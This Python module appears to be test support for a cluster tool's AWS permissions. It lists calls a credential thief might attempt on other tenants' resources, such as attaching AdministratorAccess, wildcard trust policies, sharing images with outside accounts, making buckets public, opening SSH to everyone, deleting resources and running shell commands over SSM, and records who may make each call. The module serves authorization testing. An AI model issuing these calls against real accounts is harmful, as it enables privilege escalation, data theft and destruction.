"""What a thief tries: calls on the resources of a neighbour and of others in the account, and who may make them.

Each call names the action and the resource that decide, as the Service Authorization Reference has them, and the
condition keys that AWS would send besides the region: written by hand, not asked of the box.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from stolen_account import ADMIN, NEAR, OWN, OWNER, STATES, THEIRS, Names

from corral.box.account import ACCOUNT, REGION

Run = Callable[[Names], Any]
Tags = Mapping[str, str]
_EC2 = f"arn:aws:ec2:{REGION}:{ACCOUNT}"
_IAM = f"arn:aws:iam::{ACCOUNT}"
_KMS = f"arn:aws:kms:{REGION}:{ACCOUNT}"
_SSM = f"arn:aws:ssm:{REGION}:{ACCOUNT}"
_LOGS = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group"
_SNS = f"arn:aws:sns:{REGION}:{ACCOUNT}"
_ALARM = f"arn:aws:cloudwatch:{REGION}:{ACCOUNT}:alarm"
_EFS = f"arn:aws:elasticfilesystem:{REGION}:{ACCOUNT}:file-system"
_FSX = f"arn:aws:fsx:{REGION}:{ACCOUNT}:file-system"
_ZONE = "arn:aws:route53:::hostedzone/{zone}"
_BOUNDARY = f"{_IAM}:policy/corral/guards-boundary-{REGION}"
_READERS = ("reader", "user", ADMIN, "deployer")
_DEPLOYER = ("deployer",)
_HEAD = ("near-head", "deployer")
_NOBODY: tuple[str, ...] = ()
_ADMINISTRATOR_ACCESS = "arn:aws:iam::aws:policy/AdministratorAccess"
_POLICY = '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}'
_TRUST = _POLICY.replace('"Action": "*", "Resource": "*"', '"Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"')
# The prefixes of the keys of a resource's tags, by service; those of other services are aws alone.
_TAG_PREFIXES = {"ec2": ("aws:ResourceTag", "ec2:ResourceTag"), "ssm": ("aws:ResourceTag", "ssm:resourceTag")}


@dataclass(frozen=True, slots=True, kw_only=True, eq=False)
class StolenCall:
    """A call on the resources of `owner`. `may`: the identities that may make it, besides an administrator."""

    owner: str
    action: str
    resource: str
    run: Run
    may: frozenset[str]
    keys: Mapping[str, str]

    @property
    def title(self) -> str:
        """What the call does to whose resource."""
        return f"{self.action} {self.resource} of {self.owner}"


def _call(
    owner: str, action: str, resource: str, run: Run, may: tuple[str, ...], tags: Tags, keys: Mapping[str, str]
) -> StolenCall:
    service = "ssm" if action.startswith("ssm:") else action.partition(":")[0]
    prefixes = _TAG_PREFIXES.get(service, ("aws:ResourceTag",))
    tagged = {f"{prefix}/{key}": value for prefix in prefixes for key, value in tags.items()}
    return StolenCall(
        owner=owner, action=action, resource=resource, run=run, may=frozenset((*may, OWNER)), keys={**tagged, **keys}
    )


def _both(
    action: str, resource: str, run: Run, may: tuple[str, ...] = _DEPLOYER, *, shared: bool = False, **keys: str
) -> Iterator[StolenCall]:
    """On the neighbour's resource, with its tags, and on somebody else's, which only an administrator may.

    `shared`: the resource is the base's, not a cluster's.
    """
    tags = {"corral:base": "dev"} | ({} if shared else {"corral:cluster": NEAR})
    named = {key.replace("__", ":"): value for key, value in keys.items()}
    yield _call(NEAR, action, resource, run, may, tags, named)
    yield _call(THEIRS, action, resource, run, _NOBODY, {}, named)


def _near(
    action: str, resource: str, run: Run, may: tuple[str, ...] = _NOBODY, tags: Tags | None = None, **keys: str
) -> StolenCall:
    named = {key.replace("__", ":"): value for key, value in keys.items()}
    return _call(NEAR, action, resource, run, may, tags or {}, named)


def _own(
    action: str, resource: str, run: Run, may: tuple[str, ...] = _NOBODY, tags: Tags | None = None, **keys: str
) -> StolenCall:
    named = {key.replace("__", ":"): value for key, value in keys.items()}
    return _call(OWN, action, resource, run, may, tags or {}, named)


def _theirs(
    action: str, resource: str, run: Run, may: tuple[str, ...] = _NOBODY, tags: Tags | None = None, **keys: str
) -> StolenCall:
    named = {key.replace("__", ":"): value for key, value in keys.items()}
    return _call(THEIRS, action, resource, run, may, tags or {}, named)


def _machines() -> Iterator[StolenCall]:
    instance = f"{_EC2}:instance/{{head}}"
    yield from _both(
        "ec2:TerminateInstances", instance, lambda n: n.aws("ec2").terminate_instances(InstanceIds=[n.node]), _HEAD
    )
    yield from _both("ec2:StopInstances", instance, lambda n: n.aws("ec2").stop_instances(InstanceIds=[n.head]))
    yield from _both("ec2:StartInstances", instance, lambda n: n.aws("ec2").start_instances(InstanceIds=[n.head]))
    yield from _both(
        "ec2:RebootInstances", instance, lambda n: n.aws("ec2").reboot_instances(InstanceIds=[n.head]), _NOBODY
    )
    yield from _both(
        "ec2:CreateTags",
        instance,
        lambda n: n.aws("ec2").create_tags(Resources=[n.head], Tags=[{"Key": "corral:cluster", "Value": OWN}]),
    )
    yield from _both(
        "ec2:ModifyInstanceAttribute",
        instance,
        lambda n: n.aws("ec2").modify_instance_attribute(InstanceId=n.head, UserData={"Value": b"#!/bin/sh"}),
    )
    yield from _both(
        "ec2:ModifyInstanceMetadataOptions",
        instance,
        lambda n: n.aws("ec2").modify_instance_metadata_options(InstanceId=n.head, HttpTokens="optional"),
    )
    yield from _both(
        "ec2:AssociateIamInstanceProfile",
        instance,
        lambda n: n.aws("ec2").associate_iam_instance_profile(
            IamInstanceProfile={"Name": n.profile}, InstanceId=n.head
        ),
        _NOBODY,
    )
    yield from _both(
        "ec2:CreateImage", instance, lambda n: n.aws("ec2").create_image(InstanceId=n.head, Name="copy"), _NOBODY
    )
    yield from _both(
        "ec2:GetConsoleOutput", instance, lambda n: n.aws("ec2").get_console_output(InstanceId=n.head), _NOBODY
    )
    yield from _both(
        "ec2:GetPasswordData", instance, lambda n: n.aws("ec2").get_password_data(InstanceId=n.head), _NOBODY
    )
    yield _near(
        "ec2:DescribeInstances", "*", lambda n: n.aws("ec2").describe_instances(), ("head", "near-head", *_READERS)
    )
    yield _near(
        "ec2:DescribeInstanceAttribute",
        "*",
        lambda n: n.aws("ec2").describe_instance_attribute(InstanceId=n.head, Attribute="userData"),
        _READERS,
    )


def _launches() -> Iterator[StolenCall]:
    template = f"{_EC2}:launch-template/{{template}}"
    yield _near(
        "ec2:RunInstances",
        template,
        lambda n: n.aws("ec2").run_instances(LaunchTemplate={"LaunchTemplateId": n.template}, MinCount=1, MaxCount=1),
        _HEAD,
        {"corral:base": "dev", "corral:cluster": NEAR},
    )
    yield _own(  # a machine that the neighbour's autoscaler would take for its own
        "ec2:CreateTags",
        f"{_EC2}:instance/*",
        lambda n: n.aws("ec2").run_instances(
            LaunchTemplate={"LaunchTemplateId": n.template},
            MinCount=1,
            MaxCount=1,
            TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "corral:cluster", "Value": NEAR}]}],
        ),
        _DEPLOYER,
        ec2__CreateAction="RunInstances",
        **{"aws__RequestTag/corral__cluster": NEAR},
    )
    yield _theirs(  # a deployer may launch, with roles of clusters alone
        "ec2:RunInstances",
        template,
        lambda n: n.aws("ec2").run_instances(LaunchTemplate={"LaunchTemplateId": n.template}, MinCount=1, MaxCount=1),
        _DEPLOYER,
    )
    for build, may in ((_near, _DEPLOYER), (_theirs, _NOBODY)):
        yield build(
            "iam:PassRole",
            f"{_IAM}:role/{{head_role}}" if build is _theirs else f"{_IAM}:role/corral/{{head_role}}",
            lambda n: n.aws("ec2").run_instances(
                ImageId=n.image, IamInstanceProfile={"Name": n.profile}, MinCount=1, MaxCount=1
            ),
            may,
            iam__PassedToService="ec2.amazonaws.com",
        )
    yield from _both(
        "ec2:CreateLaunchTemplateVersion",
        template,
        lambda n: n.aws("ec2").create_launch_template_version(
            LaunchTemplateId=n.template, SourceVersion="1", LaunchTemplateData={"UserData": "IyEvYmluL3No"}
        ),
    )
    yield from _both(
        "ec2:ModifyLaunchTemplate",
        template,
        lambda n: n.aws("ec2").modify_launch_template(LaunchTemplateId=n.template, DefaultVersion="1"),
    )
    spending: tuple[tuple[str, Run], ...] = (
        ("ec2:RequestSpotInstances", lambda n: n.aws("ec2").request_spot_instances(InstanceCount=1)),
        ("ec2:CreateKeyPair", lambda n: n.aws("ec2").create_key_pair(KeyName="thief")),
        (
            "ec2:CreateCapacityReservation",
            lambda n: n.aws("ec2").create_capacity_reservation(
                InstanceType="p5.48xlarge",
                InstancePlatform="Linux/UNIX",
                InstanceCount=1,
                AvailabilityZone="us-east-1a",
            ),
        ),
        (
            "ec2:PurchaseCapacityBlock",
            lambda n: n.aws("ec2").purchase_capacity_block(
                CapacityBlockOfferingId="cbr-1", InstancePlatform="Linux/UNIX"
            ),
        ),
    )
    for action, run in spending:
        yield _near(action, "*", run)


def _disks() -> Iterator[StolenCall]:
    volume = f"{_EC2}:volume/{{volume}}"
    yield from _both("ec2:CreateSnapshot", volume, lambda n: n.aws("ec2").create_snapshot(VolumeId=n.volume), _NOBODY)
    yield from _both(
        "ec2:AttachVolume",
        volume,
        lambda n: n.aws("ec2").attach_volume(VolumeId=n.volume, InstanceId=n.head, Device="/dev/sdz"),
    )
    yield from _both("ec2:DetachVolume", volume, lambda n: n.aws("ec2").detach_volume(VolumeId=n.volume))
    yield from _both("ec2:ModifyVolume", volume, lambda n: n.aws("ec2").modify_volume(VolumeId=n.volume, Size=9))
    yield from _both("ec2:DeleteVolume", volume, lambda n: n.aws("ec2").delete_volume(VolumeId=n.volume))
    yield _theirs(
        "ec2:ModifyImageAttribute",
        f"arn:aws:ec2:{REGION}::image/{{image}}",
        lambda n: n.aws("ec2").modify_image_attribute(ImageId=n.image, OperationType="add", UserIds=["999999999999"]),
    )
    home, lustre = f"{_EFS}/{{home}}", f"{_FSX}/{{lustre}}"
    yield from _both(
        "elasticfilesystem:PutFileSystemPolicy",
        home,
        lambda n: n.aws("efs").put_file_system_policy(FileSystemId=n.home, Policy=_POLICY),
        _NOBODY,
        shared=True,
    )
    yield from _both(
        "elasticfilesystem:CreateMountTarget",
        home,
        lambda n: n.aws("efs").create_mount_target(FileSystemId=n.home, SubnetId=n.subnet),
        shared=True,
    )
    yield from _both(
        "elasticfilesystem:TagResource",
        home,
        lambda n: n.aws("efs").tag_resource(ResourceId=n.home, Tags=[{"Key": "corral:base", "Value": "dev"}]),
        shared=True,
    )
    yield from _both(
        "fsx:UpdateFileSystem",
        lustre,
        lambda n: n.aws("fsx").update_file_system(FileSystemId=n.lustre, StorageCapacity=2400),
    )
    yield from _both("fsx:CreateBackup", lustre, lambda n: n.aws("fsx").create_backup(FileSystemId=n.lustre), _NOBODY)
    yield from _both(
        "fsx:CreateDataRepositoryTask",
        lustre,
        lambda n: n.aws("fsx").create_data_repository_task(
            Type="EXPORT_TO_REPOSITORY", FileSystemId=n.lustre, Report={"Enabled": False}
        ),
        _NOBODY,
    )
    yield from _both("fsx:DeleteFileSystem", lustre, lambda n: n.aws("fsx").delete_file_system(FileSystemId=n.lustre))
    yield from _both(
        "elasticfilesystem:DeleteFileSystem",
        home,
        lambda n: n.aws("efs").delete_file_system(FileSystemId=n.home),
        shared=True,
    )


def _network() -> Iterator[StolenCall]:
    rule = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
    group, table = f"{_EC2}:security-group/{{group}}", f"{_EC2}:route-table/{{table}}"
    yield from _both(
        "ec2:AuthorizeSecurityGroupIngress",
        group,
        lambda n: n.aws("ec2").authorize_security_group_ingress(GroupId=n.group, IpPermissions=[rule]),
    )
    yield from _both(
        "ec2:AuthorizeSecurityGroupEgress",
        group,
        lambda n: n.aws("ec2").authorize_security_group_egress(GroupId=n.group, IpPermissions=[rule]),
    )
    yield from _both(
        "ec2:RevokeSecurityGroupEgress",
        group,
        lambda n: n.aws("ec2").revoke_security_group_egress(GroupId=n.group, IpPermissions=[rule]),
    )
    yield from _both("ec2:DeleteSecurityGroup", group, lambda n: n.aws("ec2").delete_security_group(GroupId=n.group))
    yield from _both(
        "ec2:CreateRoute",
        table,
        lambda n: n.aws("ec2").create_route(
            RouteTableId=n.table, DestinationCidrBlock="10.7.0.0/16", GatewayId="igw-00000000000000000"
        ),
        shared=True,
    )
    yield from _both(
        "ec2:ReplaceRoute",
        table,
        lambda n: n.aws("ec2").replace_route(
            RouteTableId=n.table, DestinationCidrBlock="0.0.0.0/0", GatewayId="igw-00000000000000000"
        ),
        shared=True,
    )
    yield from _both(
        "ec2:DeleteRoute",
        table,
        lambda n: n.aws("ec2").delete_route(RouteTableId=n.table, DestinationCidrBlock="10.7.0.0/16"),
        shared=True,
    )
    yield from _both(
        "ec2:AssociateRouteTable",
        table,
        lambda n: n.aws("ec2").associate_route_table(RouteTableId=n.table, SubnetId=n.subnet),
        shared=True,
    )
    yield from _both(
        "ec2:ModifySubnetAttribute",
        f"{_EC2}:subnet/{{subnet}}",
        lambda n: n.aws("ec2").modify_subnet_attribute(SubnetId=n.subnet, MapPublicIpOnLaunch={"Value": True}),
        shared=True,
    )
    yield from _both(
        "ec2:CreateVpcPeeringConnection",
        f"{_EC2}:vpc/{{vpc}}",
        lambda n: n.aws("ec2").create_vpc_peering_connection(VpcId=n.vpc, PeerOwnerId="999999999999"),
        _NOBODY,
        shared=True,
    )
    yield from _both(
        "ec2:DeleteSubnet",
        f"{_EC2}:subnet/{{subnet}}",
        lambda n: n.aws("ec2").delete_subnet(SubnetId=n.subnet),
        shared=True,
    )
    yield from _both(
        "ec2:DeleteVpc", f"{_EC2}:vpc/{{vpc}}", lambda n: n.aws("ec2").delete_vpc(VpcId=n.vpc), shared=True
    )
    yield from _both(
        "ec2:ReleaseAddress",
        f"{_EC2}:elastic-ip/{{address}}",
        lambda n: n.aws("ec2").release_address(AllocationId=n.address),
        shared=True,
    )
    yield from _names()


def _names() -> Iterator[StolenCall]:
    def change(n: Names) -> Any:
        record = {"Name": f"x.{n.domain}", "Type": "A", "TTL": 60, "ResourceRecords": [{"Value": "10.0.0.1"}]}
        changes = [{"Action": "UPSERT", "ResourceRecordSet": record}]
        return n.aws("route53").change_resource_record_sets(HostedZoneId=n.zone, ChangeBatch={"Changes": changes})

    changed, key = "route53:ChangeResourceRecordSets", "route53:ChangeResourceRecordSetsNormalizedRecordNames"
    yield _call(NEAR, changed, _ZONE, change, _HEAD, {}, {key: f"x.{NEAR}.corral.internal"})
    yield _call(THEIRS, changed, _ZONE, change, _NOBODY, {}, {key: "x.corp.example"})
    yield _near(
        "route53:ListResourceRecordSets",
        _ZONE,
        lambda n: n.aws("route53").list_resource_record_sets(HostedZoneId=n.zone),
        _HEAD,
    )


def _identity() -> Iterator[StolenCall]:
    near, theirs = f"{_IAM}:role/corral/{{head_role}}", f"{_IAM}:role/{{head_role}}"
    bounded = {"iam:PermissionsBoundary": _BOUNDARY}
    changes: tuple[tuple[str, Run, tuple[str, ...], Mapping[str, str]], ...] = (
        ("GetRolePolicy", lambda n: n.aws("iam").get_role_policy(RoleName=n.head_role, PolicyName="x"), _DEPLOYER, {}),
        (
            "PutRolePolicy",
            lambda n: n.aws("iam").put_role_policy(RoleName=n.head_role, PolicyName="x", PolicyDocument=_POLICY),
            _DEPLOYER,
            bounded,
        ),
        (
            "AttachRolePolicy",
            lambda n: n.aws("iam").attach_role_policy(RoleName=n.head_role, PolicyArn=_ADMINISTRATOR_ACCESS),
            _NOBODY,
            {**bounded, "iam:PolicyARN": _ADMINISTRATOR_ACCESS},
        ),
        (
            "UpdateAssumeRolePolicy",
            lambda n: n.aws("iam").update_assume_role_policy(RoleName=n.head_role, PolicyDocument=_TRUST),
            _NOBODY,
            {},
        ),
        (
            "PutRolePermissionsBoundary",
            lambda n: n.aws("iam").put_role_permissions_boundary(
                RoleName=n.head_role, PermissionsBoundary=_ADMINISTRATOR_ACCESS
            ),
            _NOBODY,
            {"iam:PermissionsBoundary": _ADMINISTRATOR_ACCESS},
        ),
        (
            "DeleteRolePermissionsBoundary",
            lambda n: n.aws("iam").delete_role_permissions_boundary(RoleName=n.head_role),
            _NOBODY,
            bounded,
        ),
        (
            "UpdateRole",
            lambda n: n.aws("iam").update_role(RoleName=n.head_role, MaxSessionDuration=43200),
            _DEPLOYER,
            {},
        ),
        ("DeleteRole", lambda n: n.aws("iam").delete_role(RoleName=n.head_role), _DEPLOYER, {}),
    )
    for name, run, may, keys in changes:
        yield _call(NEAR, f"iam:{name}", near, run, may, {}, keys)
        yield _call(THEIRS, f"iam:{name}", theirs, run, _NOBODY, {}, keys)
    own = f"{_IAM}:role/corral/identity-mine"
    trusted = {"RoleName": "identity-mine", "AssumeRolePolicyDocument": _TRUST}
    tags = [{"Key": "corral:base", "Value": "dev"}]
    asked = {"aws:RequestTag/corral:base": "dev", "aws:TagKeys": "corral:base"}
    create = lambda **more: lambda n: n.aws("iam").create_role(**trusted, Tags=tags, **more)  # noqa: E731
    yield _call(NEAR, "iam:CreateRole", own, create(Path="/corral/"), _NOBODY, {}, asked)
    bound = {**asked, "iam:PermissionsBoundary": _ADMINISTRATOR_ACCESS}
    yield _call(
        NEAR,
        "iam:CreateRole",
        own,
        create(Path="/corral/", PermissionsBoundary=_ADMINISTRATOR_ACCESS),
        _NOBODY,
        {},
        bound,
    )
    yield _call(
        NEAR,
        "iam:CreateRole",
        f"{_IAM}:role/identity-mine",
        create(PermissionsBoundary=_BOUNDARY),
        _NOBODY,
        {},
        {**asked, "iam:PermissionsBoundary": _BOUNDARY},
    )
    boundary = _BOUNDARY
    account: tuple[tuple[str, str, Run], ...] = (
        (
            "CreatePolicyVersion",
            boundary,
            lambda n: n.aws("iam").create_policy_version(PolicyArn=boundary, PolicyDocument=_POLICY, SetAsDefault=True),
        ),
        (
            "SetDefaultPolicyVersion",
            boundary,
            lambda n: n.aws("iam").set_default_policy_version(PolicyArn=boundary, VersionId="v1"),
        ),
        ("CreateUser", f"{_IAM}:user/thief", lambda n: n.aws("iam").create_user(UserName="thief")),
        ("CreateAccessKey", f"{_IAM}:user/grace", lambda n: n.aws("iam").create_access_key(UserName="grace")),
        (
            "AttachUserPolicy",
            f"{_IAM}:user/grace",
            lambda n: n.aws("iam").attach_user_policy(UserName="grace", PolicyArn=_ADMINISTRATOR_ACCESS),
        ),
        (
            "CreatePolicy",
            f"{_IAM}:policy/mine",
            lambda n: n.aws("iam").create_policy(PolicyName="mine", PolicyDocument=_POLICY),
        ),
        ("ListUsers", "*", lambda n: n.aws("iam").list_users()),
        ("GetAccountAuthorizationDetails", "*", lambda n: n.aws("iam").get_account_authorization_details()),
    )
    for name, resource, run in account:
        yield _theirs(f"iam:{name}", resource, run)
    yield _near(
        "sts:AssumeRole",
        f"{_IAM}:role/corral/{{job_role}}",
        lambda n: n.aws("sts").assume_role(RoleArn=f"{_IAM}:role/corral/{n.job_role}", RoleSessionName="thief"),
        ("near-head", "near-compute"),
    )
    yield _theirs(
        "sts:AssumeRole",
        f"{_IAM}:role/ops",
        lambda n: n.aws("sts").assume_role(RoleArn=f"{_IAM}:role/ops", RoleSessionName="thief"),
    )


def _objects() -> Iterator[StolenCall]:
    def get(key: str, bucket: str = "") -> Run:
        return lambda n: n.aws("s3").get_object(Bucket=bucket or n.bucket, Key=key.format(**n.known))

    def put(key: str, bucket: str = "") -> Run:
        return lambda n: n.aws("s3").put_object(Bucket=bucket or n.bucket, Key=key.format(**n.known), Body=b"1")

    def delete(key: str, bucket: str = "") -> Run:
        return lambda n: n.aws("s3").delete_object(Bucket=bucket or n.bucket, Key=key.format(**n.known))

    manifest, bucket = "{code}/manifest.json", "arn:aws:s3:::{bucket}"
    readers, jobs = ("near-compute", "near-head", "deployer"), ("near-job", "deployer")
    rows: tuple[tuple[str, str, Callable[[str], Run], tuple[str, ...]], ...] = (
        ("s3:GetObject", manifest, get, readers),
        ("s3:PutObject", manifest, put, _DEPLOYER),
        ("s3:DeleteObject", manifest, delete, _DEPLOYER),
    )
    for action, key, make, may in rows:
        yield _near(action, f"{bucket}/{key}", make(key), may)
        yield _theirs(action, f"{bucket}/{key}", make(key))
    yield _own("s3:PutObject", f"{bucket}/{manifest}", put(manifest), _DEPLOYER)
    yield _own("s3:DeleteObject", f"{bucket}/{manifest}", delete(manifest), _DEPLOYER)
    saved = "checkpoints/near/step-1"
    yield _near("s3:GetObject", f"{bucket}/{saved}", get(saved), jobs)
    yield _near("s3:PutObject", f"{bucket}/{saved}", put(saved), jobs)
    yield _near("s3:DeleteObject", f"{bucket}/{saved}", delete(saved), jobs)
    yield _near(
        "s3:ListBucket",
        bucket,
        lambda n: n.aws("s3").list_objects_v2(Bucket=n.bucket, Prefix="checkpoints/near/"),
        jobs,
        s3__prefix="checkpoints/near/",
    )
    yield _near("s3:ListBucket", bucket, lambda n: n.aws("s3").list_objects_v2(Bucket=n.bucket), _DEPLOYER)
    yield _theirs("s3:ListBucket", bucket, lambda n: n.aws("s3").list_objects_v2(Bucket=n.bucket))
    dump, life = "accounting/near.sql.gz", "lives/near/20261126T000000Z.json.gz"
    yield _near("s3:GetObject", f"{bucket}/{dump}", get(dump), _HEAD)
    yield _near("s3:PutObject", f"{bucket}/{dump}", put(dump), _HEAD)
    yield _near("s3:GetObject", f"{bucket}/{life}", get(life), _READERS)
    yield _near("s3:PutObject", f"{bucket}/{life}", put(life), _HEAD)
    yield _theirs("s3:GetObject", "arn:aws:s3:::corral-example-corpus/other", get("other", "corral-example-corpus"))
    yield _theirs("s3:PutObject", "arn:aws:s3:::corral-example-corpus/other", put("other", "corral-example-corpus"))
    yield _near("s3:ListAllMyBuckets", "*", lambda n: n.aws("s3").list_buckets())
    state = f"arn:aws:s3:::{STATES}"
    kept = ".pulumi/stacks/corral-cluster/near.json"
    yield _near("s3:GetObject", f"{state}/{kept}", get(kept, STATES), _DEPLOYER)
    yield _near("s3:PutObject", f"{state}/{kept}", put(kept, STATES), _DEPLOYER)
    yield _near(
        "s3:DeleteObjectVersion",
        f"{state}/{kept}",
        lambda n: n.aws("s3").delete_object(Bucket=STATES, Key=kept, VersionId="null"),
    )
    yield from _buckets(bucket, state)


def _buckets(bucket: str, state: str) -> Iterator[StolenCall]:
    settings: tuple[tuple[str, Callable[[str], Run]], ...] = (
        (
            "s3:PutBucketPolicy",
            lambda named: lambda n: n.aws("s3").put_bucket_policy(Bucket=named or n.bucket, Policy=_POLICY),
        ),
        (
            "s3:PutBucketVersioning",
            lambda named: (
                lambda n: n.aws("s3").put_bucket_versioning(
                    Bucket=named or n.bucket, VersioningConfiguration={"Status": "Suspended"}
                )
            ),
        ),
        (
            "s3:PutBucketPublicAccessBlock",
            lambda named: (
                lambda n: n.aws("s3").put_public_access_block(
                    Bucket=named or n.bucket, PublicAccessBlockConfiguration={"BlockPublicPolicy": False}
                )
            ),
        ),
        ("s3:DeleteBucket", lambda named: lambda n: n.aws("s3").delete_bucket(Bucket=named or n.bucket)),
    )
    for action, make in settings:
        yield _near(action, bucket, make(""), _DEPLOYER)
        yield _theirs(action, bucket, make(""))
        yield _theirs(action, state, make(STATES))
    yield _near("s3:GetBucketPolicy", bucket, lambda n: n.aws("s3").get_bucket_policy(Bucket=n.bucket), _DEPLOYER)
    for build in (_near, _theirs):
        yield build("s3:PutBucketAcl", bucket, lambda n: n.aws("s3").put_bucket_acl(Bucket=n.bucket, ACL="public-read"))


def _keys() -> Iterator[StolenCall]:
    key = f"{_KMS}:key/{{key}}"
    text = b"x" * 64
    uses: tuple[tuple[str, Run], ...] = (
        ("Decrypt", lambda n: n.aws("kms").decrypt(KeyId=n.key, CiphertextBlob=text)),
        ("Encrypt", lambda n: n.aws("kms").encrypt(KeyId=n.key, Plaintext=b"1")),
        ("GenerateDataKey", lambda n: n.aws("kms").generate_data_key(KeyId=n.key, KeySpec="AES_256")),
        (
            "CreateGrant",
            lambda n: n.aws("kms").create_grant(
                KeyId=n.key, GranteePrincipal=f"{_IAM}:role/ops", Operations=["Decrypt"]
            ),
        ),
        ("DisableKey", lambda n: n.aws("kms").disable_key(KeyId=n.key)),
    )
    near = {"aws:ResourceTag/corral:base": "dev", "kms:ResourceAliases": "alias/corral-dev"}
    theirs = {"kms:ResourceAliases": "alias/payroll"}
    for name, run in uses:
        yield _call(NEAR, f"kms:{name}", key, run, _NOBODY, {}, near)
        yield _call(THEIRS, f"kms:{name}", key, run, _NOBODY, {}, theirs)
    changes: tuple[tuple[str, Run], ...] = (
        ("PutKeyPolicy", lambda n: n.aws("kms").put_key_policy(KeyId=n.key, PolicyName="default", Policy=_POLICY)),
        (
            "TagResource",
            lambda n: n.aws("kms").tag_resource(KeyId=n.key, Tags=[{"TagKey": "corral:base", "TagValue": "dev"}]),
        ),
        ("ScheduleKeyDeletion", lambda n: n.aws("kms").schedule_key_deletion(KeyId=n.key)),
    )
    for name, run in changes:
        yield _call(NEAR, f"kms:{name}", key, run, _DEPLOYER, {}, near)
        yield _call(THEIRS, f"kms:{name}", key, run, _NOBODY, {}, theirs)
    signing = f"{_KMS}:key/{{signing_key}}"

    def sign(n: Names) -> Any:
        return n.aws("kms").sign(
            KeyId=n.signing_alias, Message=b"1", MessageType="RAW", SigningAlgorithm="RSASSA_PKCS1_V1_5_SHA_256"
        )

    for build, alias, may in ((_near, "alias/corral-signing/dev", _DEPLOYER), (_theirs, "alias/releases", _NOBODY)):
        yield build("kms:Sign", signing, sign, may, kms__RequestAlias=alias, kms__ResourceAliases=alias)
    yield _theirs(  # a second name would make the key one that deployers sign with
        "kms:CreateAlias",
        signing,
        lambda n: n.aws("kms").create_alias(AliasName="alias/corral-signing/mine", TargetKeyId=n.signing_key),
        kms__ResourceAliases="alias/releases",
    )
    yield _theirs(
        "kms:UpdateAlias",
        signing,
        lambda n: n.aws("kms").update_alias(AliasName="alias/corral-signing/dev", TargetKeyId=n.signing_key),
        kms__ResourceAliases="alias/releases",
    )
    yield _theirs(  # the key of this name decrypts for deployers
        "kms:UpdateAlias",
        f"{_KMS}:alias/corral-state",
        lambda n: n.aws("kms").update_alias(AliasName="alias/corral-state", TargetKeyId=n.key),
    )
    yield _theirs(
        "kms:DeleteAlias",
        f"{_KMS}:alias/corral-state",
        lambda n: n.aws("kms").delete_alias(AliasName="alias/corral-state"),
    )
    yield _theirs(
        "kms:DeleteAlias", f"{_KMS}:alias/payroll", lambda n: n.aws("kms").delete_alias(AliasName="alias/payroll")
    )
    yield _near("kms:ListKeys", "*", lambda n: n.aws("kms").list_keys())


def _secrets() -> Iterator[StolenCall]:
    readers = ("near-head", "near-compute")
    rows: tuple[tuple[str, Run, tuple[str, ...]], ...] = (
        ("GetSecretValue", lambda n: n.aws("secretsmanager").get_secret_value(SecretId=n.secret), readers),
        (
            "PutSecretValue",
            lambda n: n.aws("secretsmanager").put_secret_value(SecretId=n.secret, SecretString="2"),
            ("near-head",),
        ),
        ("DescribeSecret", lambda n: n.aws("secretsmanager").describe_secret(SecretId=n.secret), _DEPLOYER),
        (
            "PutResourcePolicy",
            lambda n: n.aws("secretsmanager").put_resource_policy(SecretId=n.secret, ResourcePolicy=_POLICY),
            _NOBODY,
        ),
        (
            "UpdateSecret",
            lambda n: n.aws("secretsmanager").update_secret(SecretId=n.secret, Description="mine"),
            _DEPLOYER,
        ),
        (
            "DeleteSecret",
            lambda n: n.aws("secretsmanager").delete_secret(SecretId=n.secret, RecoveryWindowInDays=7),
            _DEPLOYER,
        ),
    )
    for name, run, may in rows:
        yield _near(f"secretsmanager:{name}", "{secret}", run, may)
        yield _theirs(f"secretsmanager:{name}", "{secret}", run)
    yield _near("secretsmanager:ListSecrets", "*", lambda n: n.aws("secretsmanager").list_secrets())
    parameter = f"{_SSM}:parameter{{parameter}}"
    parameters: tuple[tuple[str, Run, tuple[str, ...]], ...] = (
        ("GetParameter", lambda n: n.aws("ssm").get_parameter(Name=n.parameter, WithDecryption=True), _READERS),
        (
            "PutParameter",
            lambda n: n.aws("ssm").put_parameter(Name=n.parameter, Value="2099-01-01", Type="String", Overwrite=True),
            _DEPLOYER,
        ),
        ("DeleteParameter", lambda n: n.aws("ssm").delete_parameter(Name=n.parameter), _DEPLOYER),
    )
    for name, run, may in parameters:
        yield _near(f"ssm:{name}", parameter, run, may)
        yield _theirs(f"ssm:{name}", parameter, run)
    yield _near("ecr:BatchGetImage", f"arn:aws:ecr:{REGION}:{ACCOUNT}:repository/payroll", _pull)
    yield _near(
        "ecr:DeleteRepository",
        f"arn:aws:ecr:{REGION}:{ACCOUNT}:repository/payroll",
        lambda n: n.aws("ecr").delete_repository(repositoryName="payroll"),
    )


def _pull(n: Names) -> Any:
    return n.aws("ecr").batch_get_image(repositoryName="payroll", imageIds=[{"imageTag": "x"}])


def _shells() -> Iterator[StolenCall]:
    def send(machine: str, document: str) -> Run:
        return lambda n: n.aws("ssm").send_command(
            InstanceIds=[n.known[machine]],
            DocumentName=document,
            Parameters={"commands": ["id"]} if document == "AWS-RunShellScript" else {},
        )

    def shell(machine: str, document: str = "") -> Run:
        named = {"DocumentName": document} if document else {}
        return lambda n: n.aws("ssm").start_session(Target=n.known[machine], **named)

    head = {"corral:base": "dev", "corral:cluster": NEAR}
    node = {**head, "corral:queue": "train"}
    anything = f"arn:aws:ssm:{REGION}::document/AWS-RunShellScript"
    for build in (_own, _near, _theirs):
        yield build("ssm:SendCommand", anything, send("head", "AWS-RunShellScript"))
    instance, worker = f"{_EC2}:instance/{{head}}", f"{_EC2}:instance/{{node}}"
    document = f"{_SSM}:document/"
    yield _near("ssm:SendCommand", instance, send("head", "corral-query"), _READERS, head)
    yield _near("ssm:SendCommand", worker, send("node", "corral-query"), _DEPLOYER, node)
    yield _theirs("ssm:SendCommand", instance, send("head", "corral-query"))
    yield _near("ssm:SendCommand", f"{document}corral-control", send("head", "corral-control"), _DEPLOYER)
    checked = {"ssm__SessionDocumentAccessCheck": "true"}
    yield _near("ssm:StartSession", instance, shell("head", "corral-shell"), ("user", ADMIN), head, **checked)
